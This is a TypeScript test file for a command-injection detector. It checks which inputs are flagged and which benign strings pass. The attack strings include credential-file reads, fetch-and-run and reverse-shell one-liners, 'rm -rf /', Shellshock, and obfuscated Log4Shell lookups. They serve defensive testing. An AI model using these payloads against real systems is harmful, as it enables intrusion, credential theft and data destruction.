import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { markText } from '../marks.ts';
import { commandInjection } from './command-injection.ts';
import type { Place } from './family.ts';

function ruleOf(text: string, place: Place = 'argument'): string | null {
  const marks = markText(text);
  return commandInjection.mayMatch(marks, place)
    ? (commandInjection.find(text, place, marks)?.rule.id ?? null)
    : null;
}

describe('commandInjection', () => {
  const attacks: readonly (readonly [string, string])[] = [
    [';cat /etc/passwd', 'command-chained'],
    ['x; cat ~/.ssh/id_rsa', 'command-chained'],
    ['cat /etc/passwd', 'command-chained'],
    ['127.0.0.1;id', 'command-chained'],
    ['|id', 'command-chained'],
    ['127.0.0.1 && whoami', 'command-chained'],
    ['127.0.0.1 || ls -la', 'command-chained'],
    ['127.0.0.1\nid', 'command-chained'],
    ['x & ping -c 10 127.0.0.1', 'command-chained'],
    ['1| sleep 5', 'command-chained'],
    ['; curl http://host/x', 'command-chained'],
    ['; wget https://host/x -O- | sh', 'command-chained'],
    ['x; rm -rf /', 'command-chained'],
    ['; echo $HOME', 'command-chained'],
    ['& type c:\\windows\\win.ini', 'command-chained'],
    ['| nc -e /bin/sh 10.0.0.1', 'command-chained'],
    [";c''at /etc/passwd", 'command-chained'],
    [';c\\at /etc/passwd', 'command-chained'],
    [';/bin/cat /etc/passwd', 'command-chained'],
    [';cat</etc/passwd', 'command-chained'],
    [';{cat,/etc/passwd}', 'command-chained'],
    ['$(id)', 'command-substitution'],
    ['x$( whoami )', 'command-substitution'],
    ['`id`', 'command-substitution'],
    ['x`sleep 5`', 'command-substitution'],
    ['cat$IFS/x', 'command-shell-variable'],
    ['cat$' + '{IFS}/x', 'command-shell-variable'],
    ['bash -i >& /dev/tcp/10.0.0.1/80 0>&1', 'command-shell-variable'],
    ['() { :; }; /bin/id', 'command-function'],
    ['$' + '{jndi:ldap://host/x}', 'command-lookup'],
    ['$' + '{$' + '{lower:j}ndi:ldap://host}', 'command-lookup'],
    ['$' + '{$' + '{::-j}ndi:x}', 'command-lookup'],
  ];
  for (const [text, rule] of attacks) {
    it(`matches ${JSON.stringify(text)}`, () => assert.equal(ruleOf(text), rule));
  }

  const honest = [
    ...[
      'cats; cat people',
      'I like dogs | find a doctor | date',
      'title|id|date',
      'x`wc?a`',
      'x;cp>a',
      'caf\xc3\xa9, yes; id',
      "I can't; ls",
      'fields=name;id',
      'Tom & Jerry',
    ],
    ...[
      'You & id',
      'R&D; date night',
      'email me; type 5 letters',
      'sleep; eat & sleep 8 hours',
      'more; or less',
    ],
    ...['Run `ls -la` to list files', '$(document).ready()', 'price $5 (sale)', 'US$ 100'],
    ...[
      'Java; Python; PHP',
      'PHP & Node',
      'a && b || c',
      'x | y',
      'echo; hello',
      'function () { return 1 }',
      'f() {}',
    ],
    ...[
      'template $' + '{name}',
      '$' + '{a ? b : c}',
      '() => { }',
      'first line\nid of the second\n',
      'a; b; c',
      'id',
      'ls',
    ],
  ];
  for (const text of honest) {
    it(`leaves ${JSON.stringify(text)}`, () => assert.equal(ruleOf(text), null));
  }

  it('does not take the semicolons of header values and paths for separators', () => {
    assert.equal(ruleOf('Mozilla/5.0 (X11; id; whoami)', 'header'), null);
    assert.equal(ruleOf('/a;id', 'path'), null);
    assert.equal(ruleOf('x;cat /etc/passwd', 'header'), 'command-chained');
    assert.equal(ruleOf('1|whoami;1', 'header'), 'command-chained');
  });

  it('does not take lines of a text for commands', () => {
    assert.equal(ruleOf('127.0.0.1\nwhoami', 'text'), null);
    assert.equal(ruleOf('```sh\nls -la\n```', 'text'), null);
    assert.equal(ruleOf(`1${' '.repeat(300)}\nwhoami`), null);
  });
});
